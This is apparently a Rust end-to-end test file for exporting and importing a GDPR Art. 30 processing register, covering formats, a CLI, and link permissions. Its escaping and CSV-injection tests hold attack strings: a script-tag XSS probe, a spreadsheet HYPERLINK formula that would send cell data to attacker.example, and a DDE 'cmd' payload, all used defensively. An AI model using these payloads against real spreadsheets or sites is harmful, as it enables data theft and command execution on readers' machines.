//! The Art. 30 register export: download links with the same permissions as the
//! API, the four formats, the CLI, and the JSON round trip through an import into a
//! fresh organization.

use serde_json::{Value, json};
use workflow::Role;

use crate::common::{TestApp, assert_code, create_org, e2e};

/// Fills the app's register with the demo shop's (sources, fields, activities).
pub(crate) async fn demo_register(app: &TestApp) -> std::path::PathBuf {
    let admin = workflow::Principal {
        key_id: app.key_ids[&Role::Admin],
        org_id: app.org_id,
        key_name: "admin".into(),
        kind: workflow::PrincipalKind::ApiKey,
    };
    let shop = app
        .sources_dir
        .join(format!("auskunft-shop-{}.db", uuid::Uuid::new_v4()));
    workflow::demo::register::create_shop_database(&shop)
        .await
        .unwrap();
    app.workflow
        .seed_demo_register(&admin, &shop)
        .await
        .unwrap();
    shop
}

const LINK: &str = "query($f: RegisterExportFormat!, $l: AnswerLanguage) { registerExport(format: $f, language: $l) { url format expiresAt } }";

/// Asks for a link and downloads it: (status, content type, body).
async fn download(app: &TestApp, key: &str, format: &str) -> (u16, String, Vec<u8>) {
    download_in(app, key, format, None).await
}

/// Like [`download`], in a language (None: the organization's).
async fn download_in(
    app: &TestApp,
    key: &str,
    format: &str,
    language: Option<&str>,
) -> (u16, String, Vec<u8>) {
    let data = app
        .gql_ok(key, LINK, json!({"f": format, "l": language}))
        .await;
    let url = data["registerExport"]["url"].as_str().unwrap().to_owned();
    assert!(
        url.starts_with(&format!("http://{}/exports/", app.addr)),
        "{url}"
    );
    get(app, &url).await
}

async fn get(app: &TestApp, url: &str) -> (u16, String, Vec<u8>) {
    let response = app.client.get(url).send().await.unwrap();
    let status = response.status().as_u16();
    let content_type = response
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_owned())
        .unwrap_or_default();
    (
        status,
        content_type,
        response.bytes().await.unwrap().to_vec(),
    )
}

/// A document without what legitimately differs between two organizations.
fn comparable(mut doc: Value) -> Value {
    doc.as_object_mut().unwrap().remove("exportedAt");
    doc["controller"].as_object_mut().unwrap().remove("name");
    doc
}

async fn the_register_survives_export_and_import(app: TestApp) {
    let shop = demo_register(&app).await;
    let dpo = app.key(Role::Dpo);
    app.gql_ok(
        app.key(Role::Admin),
        "mutation { updateOrganization(input: {address: \"Hauptstr. 1\\n10115 Berlin\", country: \"DE\", dpo: {name: \"Dana Schutz\", email: \"dpo@example.com\"}, supervisoryAuthority: \"BlnBDI\"}) { organization { id } } }",
        json!({}),
    )
    .await;
    let (status, content_type, body) = download(&app, dpo, "JSON").await;
    assert_eq!(status, 200);
    assert_eq!(content_type, "application/json");
    let original: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(original["format"], "auskunft-register");
    assert_eq!(
        original["processingActivities"].as_array().unwrap().len(),
        4
    );
    assert_eq!(
        original["controller"]["dataProtectionOfficer"]["name"],
        "Dana Schutz"
    );
    let orders = original["processingActivities"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["name"] == "Online orders")
        .unwrap();
    // Every Art. 30(1) item is there, by name.
    for item in [
        "purposes",
        "subjectCategories",
        "dataCategories",
        "recipients",
        "transfers",
        "retentionPolicy",
        "tomDescription",
        "sources",
    ] {
        assert!(
            !orders[item].is_null() && orders[item] != json!([]),
            "{item}: {orders:#}"
        );
    }
    assert!(
        !String::from_utf8_lossy(&body).contains("demo-token-not-real"),
        "secrets are never exported"
    );

    // Import into a fresh organization, export again: identical but for the
    // organization's own name and the time.
    let other = create_org(&app.workflow, "Nachfolger GmbH").await;
    let import = "mutation($d: JSON!) { importRegister(input: {document: $d}) { purposes dataSources dataFields processingActivities transfers } }";
    let data = app
        .gql_ok(&other.keys[&Role::Admin], import, json!({"d": original}))
        .await;
    assert_eq!(data["importRegister"]["processingActivities"], 4);
    assert_eq!(data["importRegister"]["transfers"], 1);
    let (_, _, body) = download(&app, &other.keys[&Role::Dpo], "JSON").await;
    let copy: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(copy["controller"]["name"], "Nachfolger GmbH");
    assert_eq!(comparable(copy), comparable(original.clone()));

    // A second import would mix two registers.
    let body = app
        .gql(&other.keys[&Role::Admin], import, json!({"d": original}))
        .await;
    assert_code(&body, "CONFLICT");
    // A broken document changes nothing and says where it is broken.
    let third = create_org(&app.workflow, "Dritte GmbH").await;
    let mut broken = original.clone();
    broken["processingActivities"][1]["purposes"] = json!(["No such purpose"]);
    let body = app
        .gql(&third.keys[&Role::Admin], import, json!({"d": broken}))
        .await;
    assert_code(&body, "VALIDATION");
    assert_eq!(
        body["errors"][0]["extensions"]["fields"][0]["path"],
        json!(["input", "document", "processingActivities", "1", "purposes"])
    );
    let mut broken = original.clone();
    broken["purposes"][0]["legalBasis"] = json!("LEGITIMATE_INTERESTS");
    broken["purposes"][0]["balancingTest"] = Value::Null;
    let body = app
        .gql(&third.keys[&Role::Admin], import, json!({"d": broken}))
        .await;
    assert_code(&body, "VALIDATION");
    let body = app
        .gql(
            &third.keys[&Role::Admin],
            import,
            json!({"d": {"format": "something else"}}),
        )
        .await;
    assert_code(&body, "VALIDATION");
    let (_, _, body) = download(&app, &third.keys[&Role::Dpo], "JSON").await;
    let empty: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(empty["purposes"], json!([]));
    assert_eq!(empty["dataSources"], json!([]));
    // Importing needs the right to create register rows.
    let body = app
        .gql(&third.keys[&Role::Auditor], import, json!({"d": original}))
        .await;
    assert_code(&body, "FORBIDDEN");
    let _ = std::fs::remove_file(shop);
}
e2e!(round_trip, the_register_survives_export_and_import);

async fn every_format_carries_the_register(app: TestApp) {
    let shop = demo_register(&app).await;
    app.gql_ok(
        app.key(Role::Dpo),
        "mutation { createPurpose(input: {name: \"<script>alert(1)</script>\", legalBasis: CONSENT}) { purpose { id } } }",
        json!({}),
    )
    .await;
    let auditor = app.key(Role::Auditor);
    let (status, content_type, csv) = download_in(&app, auditor, "CSV", Some("EN")).await;
    assert_eq!(
        (status, content_type.as_str()),
        (200, "text/csv; charset=utf-8")
    );
    let csv = String::from_utf8(csv).unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    assert!(
        lines[0].contains("(f) Time limits for erasure"),
        "{}",
        lines[0]
    );
    assert!(lines[0].contains("(e) Third-country transfers and safeguards"));
    assert_eq!(lines.len(), 5, "a header and one row per activity");
    // Labels, not stored codes and keys.
    assert!(
        csv.contains("Standard contractual clauses (Art. 46(2)(c) GDPR)"),
        "{csv}"
    );
    assert!(csv.contains("(Art. 6(1)(b) GDPR)"), "{csv}");
    assert!(!csv.contains("STANDARD_CONTRACTUAL_CLAUSES"), "{csv}");
    assert!(!csv.contains("contact.email"), "{csv}");
    // The organization's language (German by default) when none is asked for.
    let (_, _, german) = download(&app, auditor, "CSV").await;
    let german = String::from_utf8(german).unwrap();
    assert!(
        german.lines().next().unwrap().contains("(f) Löschfristen"),
        "{german}"
    );
    assert!(
        german.contains("Standardvertragsklauseln (Art. 46 Abs. 2 lit. c DSGVO)"),
        "{german}"
    );
    assert!(german.contains("Vertragserfüllung"), "{german}");

    let (status, content_type, xlsx) = download(&app, auditor, "XLSX").await;
    assert_eq!(status, 200);
    assert!(content_type.starts_with("application/vnd.openxmlformats"));
    assert_eq!(&xlsx[..2], b"PK", "a zip container");
    let names = String::from_utf8_lossy(&xlsx);
    assert!(
        names.contains("xl/worksheets/sheet11.xml"),
        "overview plus ten entity sheets"
    );
    assert!(!names.contains("xl/worksheets/sheet12.xml"));

    let (status, content_type, html) = download_in(&app, auditor, "HTML", Some("EN")).await;
    assert_eq!(
        (status, content_type.as_str()),
        (200, "text/html; charset=utf-8")
    );
    let html = String::from_utf8(html).unwrap();
    assert!(html.contains("Record of processing activities"));
    assert!(html.contains("<h3>Online orders</h3>"));
    assert!(html.contains("(g) Technical and organisational measures"));
    assert!(html.contains("Standard contractual clauses"), "{html}");
    assert!(html.contains("&lt;script&gt;"), "names are escaped");
    assert!(!html.contains("<script>"));
    let (_, _, german) = download_in(&app, auditor, "HTML", Some("DE")).await;
    let german = String::from_utf8(german).unwrap();
    assert!(german.contains("<html lang=\"de\">"));
    assert!(german.contains("Verzeichnis von Verarbeitungstätigkeiten"));
    assert!(german.contains("(g) Technische und organisatorische Maßnahmen"));
    assert!(german.contains("Standardvertragsklauseln"), "{german}");
    let _ = std::fs::remove_file(shop);
}
e2e!(formats, every_format_carries_the_register);

async fn download_links_keep_the_permissions(app: TestApp) {
    // Agents read the register but not the data sources the export lists.
    let body = app
        .gql(app.key(Role::Agent), LINK, json!({"f": "CSV"}))
        .await;
    assert_code(&body, "FORBIDDEN");
    let data = app
        .gql_ok(app.key(Role::Auditor), LINK, json!({"f": "JSON"}))
        .await;
    let url = data["registerExport"]["url"].as_str().unwrap().to_owned();
    assert_eq!(data["registerExport"]["format"], "JSON");
    // Altered or made-up tokens are unknown links.
    let mut altered = url.clone();
    let last = altered.pop().unwrap();
    altered.push(if last == 'A' { 'B' } else { 'A' });
    for bad in [altered, format!("http://{}/exports/nonsense", app.addr)] {
        let (status, _, body) = get(&app, &bad).await;
        assert_eq!(status, 404);
        let body: Value = serde_json::from_slice(&body).unwrap();
        assert_code(&body, "NOT_FOUND");
    }
    assert_eq!(get(&app, &url).await.0, 200);
    // Revoking the key kills its links.
    app.gql_ok(
        app.key(Role::Admin),
        "mutation($id: ID!) { revokeApiKey(input: {id: $id}) { apiKey { id } } }",
        json!({"id": api::graphql::ids::global_id("ApiKey", app.key_ids[&Role::Auditor])}),
    )
    .await;
    let (status, _, body) = get(&app, &url).await;
    assert_eq!(status, 401);
    assert_code(&serde_json::from_slice(&body).unwrap(), "UNAUTHENTICATED");
    // Losing the permission does too.
    let data = app
        .gql_ok(app.key(Role::Integrator), LINK, json!({"f": "JSON"}))
        .await;
    let url = data["registerExport"]["url"].as_str().unwrap().to_owned();
    app.gql_ok(
        app.key(Role::Admin),
        "mutation { removePolicy(input: {role: INTEGRATOR, object: DATA_SOURCE, action: READ}) { policy { role } } }",
        json!({}),
    )
    .await;
    let (status, _, _) = get(&app, &url).await;
    assert_eq!(status, 403);
}
e2e!(download_permissions, download_links_keep_the_permissions);

/// `auskunft export-register` writes the file straight from the database.
async fn the_cli_exports_the_register(app: TestApp) {
    let shop = demo_register(&app).await;
    create_org(&app.workflow, "Zweite GmbH").await;
    let out = std::env::temp_dir().join(format!("auskunft-register-{}.xlsx", uuid::Uuid::new_v4()));
    let run = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_auskunft"))
            .args([
                "--database-url",
                &app.db.url,
                "--encryption-key",
                &app.encryption_key,
            ])
            .args(args)
            .output()
            .expect("run auskunft")
    };
    let path = out.display().to_string();
    let result = run(&["export-register", "--format", "xlsx", "--out", &path]);
    assert!(!result.status.success());
    let stderr = String::from_utf8_lossy(&result.stderr);
    assert!(
        stderr.contains("--org"),
        "two organizations: name one ({stderr})"
    );
    let org = app
        .gql_ok(
            app.key(Role::Auditor),
            "{ organization { name } }",
            json!({}),
        )
        .await["organization"]["name"]
        .as_str()
        .unwrap()
        .to_owned();
    let result = run(&[
        "export-register",
        "--format",
        "xlsx",
        "--out",
        &path,
        "--org",
        &org,
    ]);
    assert!(
        result.status.success(),
        "{}",
        String::from_utf8_lossy(&result.stderr)
    );
    let bytes = std::fs::read(&out).unwrap();
    assert_eq!(&bytes[..2], b"PK");
    let _ = std::fs::remove_file(out);
    let _ = std::fs::remove_file(shop);
}
e2e!(cli_export, the_cli_exports_the_register);

/// Every cell of a CSV export (BOM stripped).
fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let bytes = bytes
        .strip_prefix(b"\xEF\xBB\xBF")
        .expect("a byte order mark");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// CSV injection (issue 10, section 4): names a steward or the DPO typed are written
/// so that no spreadsheet runs them as formulas, in every CSV the product writes.
async fn csv_exports_cannot_attack_their_reader(app: TestApp) {
    let shop = demo_register(&app).await;
    let (dpo, steward) = (app.key(Role::Dpo), app.key(Role::Steward));
    let formula = "=HYPERLINK(\"https://attacker.example/?d=\"&D2;\"x\")";
    let command = "-2+3+cmd|' /C calc'!A0";
    let source = app
        .gql_ok(
            steward,
            "mutation { createDataSource(input: {name: \"Paper files\", connectorKind: MANUAL, connectorConfig: {contact: \"office@example.com\"}}) { dataSource { id } } }",
            json!({}),
        )
        .await["createDataSource"]["dataSource"]["id"]
        .clone();
    // The steward renames the source.
    app.gql_ok(
        steward,
        "mutation($i: UpdateDataSourceInput!) { updateDataSource(input: $i) { dataSource { name } } }",
        json!({"i": {"id": source, "name": command}}),
    )
    .await;
    let purpose = app
        .gql_ok(dpo, "{ purposes(first: 1) { nodes { id } } }", json!({}))
        .await["purposes"]["nodes"][0]["id"]
        .clone();
    app.gql_ok(
        dpo,
        "mutation($i: CreateProcessingActivityInput!) { createProcessingActivity(input: $i) { processingActivity { id } } }",
        json!({"i": {"name": formula, "owner": "@admin", "purposeIds": [purpose], "sourceIds": [source]}}),
    )
    .await;

    let (status, _, downloaded) = download(&app, app.key(Role::Auditor), "CSV").await;
    assert_eq!(status, 200);
    let cli = app
        .workflow
        .export_register_of(None, workflow::register::export::ExportFormat::Csv, None)
        .await
        .unwrap();
    for (what, bytes) in [("download", downloaded), ("export-register", cli.bytes)] {
        let rows = csv_cells(&bytes);
        let row = rows
            .iter()
            .find(|r| r[0].contains("HYPERLINK"))
            .unwrap_or_else(|| panic!("{what}: the activity is exported"));
        assert_eq!(row[0], format!("'{formula}"), "{what}");
        assert!(row.contains(&format!("'{command}")), "{what}: {row:?}");
        assert!(row.contains(&"'@admin".to_owned()), "{what}: {row:?}");
        for cell in rows.iter().flatten() {
            let first = cell.trim_start().chars().next();
            assert!(
                !cell.starts_with(['\t', '\r'])
                    && !first.is_some_and(|c| "=+-@＝＋－＠".contains(c)),
                "{what}: a spreadsheet would run {cell:?}"
            );
        }
        let text = String::from_utf8(bytes).unwrap();
        assert!(
            !text.contains(&format!("\"{formula}")) && !text.contains(&format!(",{formula}")),
            "{what}: the formula is never the start of a cell"
        );
    }
    let _ = std::fs::remove_file(shop);
}
e2e!(csv_injection, csv_exports_cannot_attack_their_reader);
